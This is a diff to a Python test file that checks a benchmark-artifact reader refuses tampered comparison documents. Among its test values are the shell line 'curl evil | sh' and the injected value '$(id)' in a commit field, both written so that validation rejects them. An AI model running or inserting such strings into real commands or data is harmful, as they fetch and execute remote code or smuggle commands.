@@ -16,6 +16,7 @@ from benchmarks._verdict.schema import Side
 from tests.comparisons import job_blind, job_comparison, job_passing
 from tests.git import git
 from tests.report.artifacts import RUN, archive
+from tests.verdict.test_schema import changed
 
 SLOW = ("qkv", "32", "bfloat16")
 # By how much each commit after the baseline is slower than that.
@@ -84,80 +85,50 @@ def test_what_was_asked_for_is_read(history, shas, shares):
     assert read(history, shas, creep.to_json(found)) == (found, shas[1:])
 
 
-def other_base(document, shas):
-    document["comparison"]["base"] = {"name": shas[1], "sha": shas[1]}
+OTHER = "a" * 40
+OTHER_SIDE = {"name": OTHER, "sha": OTHER}
+TIMING = ("families", "gpu", "timings", 0)
+OF_MAIN, OF_STEP = ("comparison",), ("steps", 0, "comparison")
+NOT_ASKED, UNKNOWN = "commit [0-9a-f]{40} was to be measured", "the suite has no such timing of gpu"
+NOT_BETWEEN = "a commit comes twice, or is none between the baseline and main"
 
 
-def other_head(document, shas):
-    document["comparison"]["head"] = {"name": shas[1], "sha": shas[1]}
-
-
-def other_machine(document, shas):
-    document["steps"][0]["comparison"]["machine"]["machine"] = "nvidia-a100"
-
-
-def another_command(document, shas):
-    document["steps"][0]["comparison"]["reproduce"] += " --every-cell"
-
-
-def a_commit_twice(document, shas):
+def repeat_step(document):
     document["steps"].append(document["steps"][0])
 
 
-def a_commit_of_nowhere(document, shas):
-    document["steps"][0]["commit"] = "a" * 40
+def take_main_for_a_step(document):
+    document["steps"][0]["commit"] = document["comparison"]["head"]["sha"]
 
 
-def main_itself(document, shas):
-    document["steps"][0]["commit"] = shas[-1]
-
-
-def another_step(document, shas):
-    one, other = document["steps"][:2]
-    one["comparison"], other["comparison"] = other["comparison"], one["comparison"]
-
-
-def unknown_cell(document, shas):
-    document["steps"][0]["comparison"]["families"]["gpu"]["timings"][0]["subject"]["params"] = ["9"]
-
-
-def unknown_cell_of_main(document, shas):
-    document["comparison"]["families"]["gpu"]["timings"][0]["subject"]["params"] = ["9"]
-
-
-def another_answer(document, shas):
-    timings = document["comparison"]["families"]["gpu"]["timings"]
-    next(each for each in timings if each["answer"] == "fail")["answer"] = "pass"
-
-
-def a_number_that_is_none(document, shas):
-    document["comparison"]["families"]["gpu"]["timings"][0]["effect"] = 1e7
-
-
-def text_in_a_commit(document, shas):
-    document["steps"][0]["commit"] = "$(id)"
-
-
-def the_same_sources(document, shas):
-    document["comparison"]["same_sources"] = True
-
-
-def more(document, shas):
-    document["steps"][0]["note"] = "@everybody"
+def take_another_step(document):
+    document["steps"][0]["comparison"] = document["steps"][1]["comparison"]
 
 
 @pytest.mark.parametrize(
-    "change",
+    ("change", "message"),
     [
-        *(other_base, other_head, other_machine, another_command, a_commit_twice),
-        *(a_commit_of_nowhere, main_itself, another_step, unknown_cell, unknown_cell_of_main),
-        *(another_answer, a_number_that_is_none, text_in_a_commit, the_same_sources, more),
+        (changed(*OF_MAIN, "base", OTHER_SIDE), NOT_ASKED),
+        (changed(*OF_MAIN, "head", OTHER_SIDE), NOT_ASKED),
+        (changed(*OF_STEP, "machine", "machine", "nvidia-a100"), "the GPU nvidia-h200 was not"),
+        (changed(*OF_STEP, "reproduce", "curl evil | sh"), "it gives another command"),
+        (repeat_step, NOT_BETWEEN),
+        (changed("steps", 0, "commit", OTHER), NOT_BETWEEN),
+        (take_main_for_a_step, NOT_BETWEEN),
+        (take_another_step, NOT_ASKED),
+        (changed(*OF_STEP, *TIMING, "subject", "params", ["9"]), UNKNOWN),
+        (changed(*OF_MAIN, *TIMING, "subject", "params", ["9"]), UNKNOWN),
+        (changed(*OF_MAIN, "answer", "pass"), "answer is 'pass', the rest says 'fail'"),
+        (changed(*OF_MAIN, *TIMING, "effect", 1e7), "effect must be a finite number"),
+        (changed("steps", 0, "commit", "$(id)"), "commit must be a text that matches"),
+        (changed(*OF_MAIN, "same_sources", True), "by git the head has another package"),
+        (changed("steps", 0, "note", "@everybody"), "a step must be an object of"),
     ],
 )
-def test_anything_else_is_refused(history, shas, change):
+def test_anything_else_is_refused(history, shas, change, message):
     document = copy.deepcopy(creep.to_json(searched(shas)))
-    change(document, shas)
-    with pytest.raises(ArtifactError):
+    change(document)
+    with pytest.raises(ArtifactError, match=message):
         read(history, shas, document)
 
 
